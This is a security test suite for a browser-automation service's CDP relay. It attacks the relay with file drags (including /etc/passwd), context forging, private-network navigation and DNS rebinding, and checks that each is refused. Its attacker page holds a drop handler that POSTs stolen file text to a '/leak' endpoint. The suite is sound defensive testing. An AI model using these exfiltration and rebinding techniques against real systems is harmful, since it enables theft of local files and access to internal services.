import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openRelayClient } from '../helpers/relay-client';
import { startTestTabhive } from '../helpers/start-test-tabhive';
import { stubLookup } from '../helpers/stub-lookup';

/**
 * The cdpUrl relay attacked as a team would (docs/cdp-relay-allowlist.md): a drag that drops a
 * file of the browser's machine into the page, evaluation in the extension's own world of a tab
 * that ran a scrape, and a name that resolves to loopback in the browser. A launched browser runs
 * the built extension; the attacker's site is on 127.0.0.2 (allowed as if public), the private
 * service on 127.0.0.1 (refused).
 */

const ATTACKER_ADDRESS = '127.0.0.2';
const PRIVATE_SECRET = 'PRIVATE-SERVICE-SECRET-3101';
const FILE_SECRET = 'LOCAL-FILE-SECRET-OF-THE-SERVER-HOST';
/** The server's DNS says public, the browser's says loopback: a rebinding name. */
const REBINDING_NAME = 'rebind.test';
/** Both say loopback: refused before the browser is asked. */
const PRIVATE_NAME = 'private-name.test';

const DROP_PAGE = `<!doctype html><title>Drop</title>
<div id="zone" style="position:absolute;left:0;top:0;width:600px;height:400px">drop here</div>
<script>
window.dropped = [];
const zone = document.getElementById('zone');
zone.addEventListener('dragover', (event) => event.preventDefault());
zone.addEventListener('drop', async (event) => {
  event.preventDefault();
  window.dropped.push('drop:' + event.dataTransfer.types.join(','));
  for (const file of event.dataTransfer.files) {
    const text = await file.text();
    window.dropped.push(text);
    fetch('/leak', { method: 'POST', body: text });
  }
});
</script>`;

let attacker: Server;
let privateService: Server;
const leaks: string[] = [];
let privateHits = 0;
let tabhive: Awaited<ReturnType<typeof startTestTabhive>>;
let fileDir: string;
let secretFile: string;

const attackerUrl = (pathname: string) =>
  `http://${ATTACKER_ADDRESS}:${(attacker.address() as AddressInfo).port}${pathname}`;
const privatePort = () => (privateService.address() as AddressInfo).port;

beforeAll(async () => {
  fileDir = await mkdtemp(path.join(os.tmpdir(), 'tabhive-relay-attack-'));
  secretFile = path.join(fileDir, 'secret.txt');
  await writeFile(secretFile, FILE_SECRET);
  attacker = createServer((request, response) => {
    if (request.url === '/leak') {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        leaks.push(body);
        response.end();
      });
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html' }).end(DROP_PAGE);
  });
  await new Promise<void>((resolve) => attacker.listen(0, ATTACKER_ADDRESS, resolve));
  privateService = createServer((_request, response) => {
    privateHits += 1;
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<p>${PRIVATE_SECRET}</p>`);
  });
  await new Promise<void>((resolve) => privateService.listen(0, '127.0.0.1', resolve));
  tabhive = await startTestTabhive({
    env: { ALLOW_PRIVATE_NETWORKS: 'false', ALLOWED_PRIVATE_HOSTS: ATTACKER_ADDRESS },
    lookup: stubLookup({ [REBINDING_NAME]: ['93.184.215.14'], [PRIVATE_NAME]: ['127.0.0.1'] }).lookup,
    extraChromeArgs: [`--host-resolver-rules=MAP ${REBINDING_NAME} 127.0.0.1, MAP ${PRIVATE_NAME} 127.0.0.1`],
  });
});

afterAll(async () => {
  await tabhive?.stop();
  await new Promise((resolve) => attacker?.close(resolve));
  await new Promise((resolve) => privateService?.close(resolve));
  if (fileDir !== undefined) await rm(fileDir, { recursive: true, force: true });
});

/** A new session; the last test's may still hold its browser for a moment after its DELETE. */
async function newSession() {
  let response = await tabhive.post('/v2/browser', { ttl: 300 });
  await expect
    .poll(
      async () => {
        if (response.status === 429 || response.status === 503) {
          response = await tabhive.post('/v2/browser', { ttl: 300 });
        }
        return response.status;
      },
      { timeout: 60_000, interval: 1000 },
    )
    .toBe(200);
  return response.json as { id: string; cdpUrl: string };
}

const endSession = (id: string) =>
  fetch(`${tabhive.url}/v2/browser/${id}`, {
    method: 'DELETE',
    headers: { authorization: `Bearer ${tabhive.apiKey}` },
  });

async function loaded(client: Awaited<ReturnType<typeof openRelayClient>>, url: string) {
  const before = client.events('Page.loadEventFired').length;
  const navigated = await client.send('Page.navigate', { url });
  expect(navigated.error).toBeUndefined();
  await client.nextEvent('Page.loadEventFired', before);
}

describe('the cdpUrl relay under attack', () => {
  it('refuses a drag that drops files of the machine into the page (N1)', async () => {
    const session = await newSession();
    const client = await openRelayClient(session.cdpUrl, tabhive.apiKey);
    try {
      await client.attach();
      await client.send('Page.enable');
      await loaded(client, attackerUrl('/drop'));
      for (const files of [[secretFile], [fileDir], ['/etc/passwd']]) {
        for (const type of ['dragEnter', 'dragOver', 'drop']) {
          const answer = await client.send('Input.dispatchDragEvent', {
            type,
            x: 100,
            y: 100,
            data: { items: [], files, dragOperationsMask: 1 },
          });
          expect(answer.error?.message).toMatch(/^Input\.dispatchDragEvent is not available.*files/);
        }
      }
      const fileInput = await client.send('DOM.setFileInputFiles', { files: [secretFile], nodeId: 1 });
      expect(fileInput.error?.message).toMatch(/^DOM\.setFileInputFiles is not available/);
      // A drag of text still works: the refusal is about files, not drags.
      for (const type of ['dragEnter', 'dragOver', 'drop']) {
        const answer = await client.send('Input.dispatchDragEvent', {
          type,
          x: 100,
          y: 100,
          data: { items: [{ mimeType: 'text/plain', data: 'just text' }], dragOperationsMask: 1 },
        });
        expect(answer.error).toBeUndefined();
      }
      const dropped = await client.send('Runtime.evaluate', {
        expression: 'JSON.stringify(window.dropped)',
        returnByValue: true,
      });
      expect(dropped.result).toMatchObject({ result: { value: '["drop:text/plain"]' } });
      expect(leaks).toEqual([]);
      expect(client.everything()).not.toContain(FILE_SECRET);
    } finally {
      client.close();
      await endSession(session.id);
    }
  });

  it("cannot evaluate in a context it did not get, after the team's own scrape (N3)", async () => {
    const scraped = await tabhive.post('/v2/scrape', {
      url: attackerUrl('/page'),
      formats: ['markdown'],
      waitFor: 200,
      maxAge: 0,
    });
    expect(scraped.status).toBe(200);
    const session = await newSession();
    // Tabhive's own world in the tab: the session's `execute` ran there.
    const executed = await tabhive.post(`/v2/browser/${session.id}/execute`, {
      code: 'console.log(1); 2',
      language: 'page',
    });
    expect(executed.json).toMatchObject({ result: '2' });
    const client = await openRelayClient(session.cdpUrl, tabhive.apiKey);
    // The extension's world has chrome.storage; a session's `execute` world keeps its console lines.
    const probe =
      "typeof chrome === 'object' && chrome !== null && chrome.storage ? 'extension-world' : " +
      "'__tabhiveLogs' in globalThis ? 'tabhive-world' : 'page-world'";
    try {
      await client.attach();
      await client.send('Runtime.enable');
      await expect.poll(() => client.events('Runtime.executionContextCreated').length).toBeGreaterThan(0);
      const announced = client
        .events('Runtime.executionContextCreated')
        .map((event) => event['context'] as { id: number; origin: string; name: string });
      expect(announced.filter((context) => context.origin.startsWith('chrome-extension:'))).toEqual([]);
      const announcedIds = new Set(announced.map((context) => context.id));
      const main = await client.send('Runtime.evaluate', { expression: 'document' });
      const isolate = String((main.result?.['result'] as { objectId: string }).objectId).split('.')[0];
      let refused = 0;
      for (let contextId = 1; contextId <= 40; contextId += 1) {
        const evaluated = await client.send('Runtime.evaluate', {
          expression: probe,
          contextId,
          returnByValue: true,
        });
        if (evaluated.error === undefined) {
          expect(announcedIds.has(contextId), `context ${contextId} answered`).toBe(true);
          expect(evaluated.result).toMatchObject({ result: { value: 'page-world' } });
        } else {
          refused += 1;
          if (!announcedIds.has(contextId))
            expect(evaluated.error.message).toMatch(/not one this client may reach/);
        }
        // An object id names its context: forged ones are refused the same way.
        const forged = await client.send('Runtime.callFunctionOn', {
          functionDeclaration: `function () { return ${probe}; }`,
          objectId: `${isolate}.${contextId}.1`,
          returnByValue: true,
        });
        if (forged.error === undefined)
          expect(forged.result).toMatchObject({ result: { value: 'page-world' } });
        else if (!announcedIds.has(contextId)) expect(forged.error.message).toMatch(/may not reach/);
      }
      expect(refused).toBeGreaterThan(0);
      // Tabhive's own worlds cannot be named into reach either.
      const tree = await client.send('Page.getFrameTree');
      const frameId = (tree.result?.['frameTree'] as { frame: { id: string } }).frame.id;
      const named = await client.send('Page.createIsolatedWorld', { frameId, worldName: 'tabhive' });
      expect(named.error?.message).toMatch(/Tabhive’s own/);
      const debuggerOn = await client.send('Debugger.enable');
      expect(debuggerOn.error?.message).toMatch(/^Debugger\.enable is not available/);
      expect(client.everything()).not.toContain('launchSession');
    } finally {
      client.close();
      await endSession(session.id);
    }
  });

  it('refuses a private name before the browser goes, and ends the session when a name rebinds (N2)', async () => {
    const session = await newSession();
    const client = await openRelayClient(session.cdpUrl, tabhive.apiKey);
    try {
      await client.attach();
      await client.send('Page.enable');
      await client.send('Runtime.enable');
      const refused = await client.send('Page.navigate', {
        url: `http://${PRIVATE_NAME}:${privatePort()}/secret`,
      });
      expect(refused.error?.message).toMatch(/refused by the URL policy/);
      const literal = await client.send('Page.navigate', { url: `http://127.0.0.1:${privatePort()}/secret` });
      expect(literal.error?.message).toMatch(/refused by the URL policy/);
      expect(privateHits).toBe(0);
      // A script on every new document would log the page out through the relay's events.
      await client.send('Page.addScriptToEvaluateOnNewDocument', {
        source: `addEventListener('load', () => console.log('BODY:' + document.body.innerText))`,
      });
      await client.send('Page.navigate', { url: `http://${REBINDING_NAME}:${privatePort()}/secret` });
      // Whatever the client asks from now on is refused; nothing of the page comes back.
      await expect
        .poll(
          async () => {
            const read = await client.send('Runtime.evaluate', {
              expression: 'document.body.innerText',
              returnByValue: true,
            });
            expect(JSON.stringify(read)).not.toContain(PRIVATE_SECRET);
            return read.error?.message ?? 'answered';
          },
          { timeout: 30_000 },
        )
        .toMatch(/serves no more commands|the relay closed|session has ended/);
      // The session ends: its relay clients are let go.
      expect(await client.closed).toBe(1000);
      expect(client.everything()).not.toContain(PRIVATE_SECRET);
    } finally {
      client.close();
    }
  });
});
